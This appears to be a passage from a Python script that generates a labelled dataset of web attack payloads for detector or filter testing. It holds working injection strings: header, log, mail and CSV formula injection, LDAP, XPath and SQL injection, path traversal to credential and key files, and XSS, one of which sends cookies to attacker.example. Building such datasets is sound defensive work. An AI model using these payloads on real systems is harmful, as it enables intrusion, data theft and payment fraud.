log-forging|batch 12%0A[WARN] disk full, clearing /var/www/uploads
log-forging|x\r\n127.0.0.1 - admin [03/Oct/2024:10:00:00 +0000] "GET /admin HTTP/1.1" 200 512
log-forging|candle%E5%98%8A%E5%98%8DINFO: password reset for owner completed
header|en-GB%0d%0aSet-Cookie:%20session=attacker-fixed-value;%20Path=/
header|lavender⏍⏎Location: https://attacker.example/login
header|/shop%0D%0AX-Forwarded-Host:%20attacker.example
header|fig%0d%0aContent-Security-Policy:%20script-src%20*
header|%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example%0d%0aAccess-Control-Allow-Credentials:%20true
header|utf-8%0aRefresh:%200;url=https://attacker.example/
header|/sale%c4%8d%c4%8aSet-Cookie:%20admin=1
header|%E5%98%8D%E5%98%8ASet-Cookie:%20wax=1
split|%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>
split|x⏍⏎⏍⏎<html><body>Your session expired, <a href=https://attacker.example>log in again</a></body></html>
split|/catalogue%0d%0a%0d%0a<svg onload=alert(document.domain)>
mail|jess@wickandwhistle.com⏍⏎Bcc: everyone@list.attacker.example
mail|Price list request%0d%0aCc:%20dump@attacker.example
mail|Priya⏎To: accounts@kerzenstube-mueller.de⏎Subject: Updated bank details for payment
mail|order@shop.example%0ABcc:victim1@example.net,victim2@example.net%0A%0AClick https://attacker.example/pay
mail|Question about wholesale⏍⏎Content-Type: text/html⏍⏎⏍⏎<a href="https://attacker.example/invoice">Download invoice</a>
mail|stockist@harbourgifts.co.uk>⏎Reply-To: billing@attacker.example
mail|Subject: hi%0d%0aX-Mailer:%20x%0d%0a%0d%0aNew IBAN: GB00 FAKE 0000 0000 0000 00
csvrow|Lavender & Cedar⏎SAMPLE-X,"=HYPERLINK(""https://attacker.example"",""Claim refund"")",0,0
csvrow|great candles",5⏎"jess@wickandwhistle.com","owner","=1+cmd|' /C calc'!A0
csvrow|Fig⏍⏎LC-200,Lavender & Cedar,0.01,0.01,1
csvrow|note%0a=IMPORTXML("https://attacker.example/x","//a"),1,2
csvrow|Bloom & Bough⏎ADMIN;attacker@attacker.example;owner;active
smuggle|0⏍⏎⏍⏎GET /admin HTTP/1.1⏍⏎Host: localhost⏍⏎⏍⏎
""".strip("\n").split("\n")

BLOCKS["ldap-xpath"] = r"""
ldap|*)(uid=*))(|(uid=*
ldap|jess)(|(password=*))
ldap|admin*)((|userPassword=*)
ldap|*)(objectClass=*
ldap|priya)(&(objectClass=user)(memberOf=cn=owners,dc=wickandwhistle,dc=local))
ldap|x*)(|(mail=*@wickandwhistle.com)(cn=*
ldap|\2a)(uid=\2a
ldap|stockist))%00
ldap|*))(|(description=*pass*
ldap|tom)(!(userAccountControl:1.2.840.113556.1.4.803:=2))(cn=*
xpath|' or '1'='1
xpath|fig' or name()='staff' or 'a'='b
xpath|x' or count(//user)>0 or 'a'='b
xpath|' or substring(//user[1]/password,1,1)='a' or '
xpath|']|//user/password|//x['
xpath|Lavender') or contains(.,'') or ('
xpath|1 or 1=1]/../../*[1
xpath|'] | //*[contains(name(),'pass')] | a['
xpath|' and string-length(//stockist[1]/api_key)>10 and '1'='1
xpath|x' or doc('http://attacker.example/x.xml') or '
""".strip("\n").split("\n")

# ---- generated part: hand-written pools joined to hand-written theme prefixes ----
SQL_PREFIXES = ["Fig & Cassis", "LC-200", "order 6612", "Bloom & Bough", "wholesale", "batch 77"]
SQL_POOL = ["' AND 8=8 UNION SELECT sku,trade_price,rrp FROM price_list_internal-- -",
            "') OR 3=3 AND SLEEP(4)-- -",
            "' AND (SELECT COUNT(*) FROM staff_users)>0 AND 'w'='w",
            "'; UPDATE orders SET total=0 WHERE ref LIKE 'WH%';--",
            "' OR 'wick'='wick'-- "]
SQL_URLENC = ["soap' UNION SELECT email,password FROM customers-- -",
              "1 AND SLEEP(5)",
              "fig') OR ('1'='1",
              "x'; DROP TABLE price_list;--"]
TRAV_URLENC = ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini",
               "../../../var/www/.env", "labels/../../../../proc/self/environ",
               "../../../../home/jess/.ssh/id_rsa"]
XSS_PREFIXES = ["Love the new tins!", "Order 4471 note:", "Bloom & Bough",
                "Review: 5 stars", "Scent name:", "Workshop feedback -"]
XSS_POOL = [" <img src=/ onerror=fetch('//attacker.example/k?'+document.cookie)>",
            " <svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>more</text></a></svg>",
            " <iframe srcdoc=\"<script>parent.alert(document.domain)</script>\">",
            " <details ontoggle=alert(1) open>read more</details>"]


def urlencode_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def decode(v):
    return v.replace(NL, "\n").replace(CR, "\r").replace(TAB, "\t")


def main():
    r = random.Random(SEED)
    here = os.path.dirname(os.path.abspath(__file__))
    benign = set()
    bpath = os.path.join(here, "benign.jsonl")
    if os.path.exists(bpath):
        with open(bpath, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    seen = set()
    rows = []

    def add(cat, cls, v, literal):
        assert 1 <= len(v) <= 2000, v
        for ch in v:
            o = ord(ch)
            assert not ((o < 32 and ch not in "\n\r\t") or o == 127), (v, o)
        if v in seen or v in benign:
            return False
        seen.add(v)
        rows.append((cat, cls, v, literal))
        return True

    gen = {}
    gen["sqli"] = []
    for p in r.sample(SQL_PREFIXES, 2):
        gen["sqli"].append(("inline", p + r.choice(SQL_POOL)))
    for s in r.sample(SQL_URLENC, 2):
        gen["sqli"].append(("encoded+urlencode", urlencode_all(s)))
    gen["traversal"] = [("dotdot+urlencode", urlencode_all(s)) for s in r.sample(TRAV_URLENC, 3)]
    gen["xss"] = []
    for p in r.sample(XSS_PREFIXES, 2):
        gen["xss"].append(("event", p + r.choice(XSS_POOL)))

    for cat, lines in BLOCKS.items():
        for line in lines:
            cls, v = line.split("|", 1)
            ok = add(cat, cls, decode(v), True)
            assert ok, ("duplicate literal", v)
        for cls, v in gen.get(cat, []):
            add(cat, cls, v, False)

    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v, _lit) in enumerate(rows, 1):
            f.write(json.dumps({"id": "hajo-%05d" % i, "category": cat, "class": cls,
                                "label": "attack", "value": v}, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
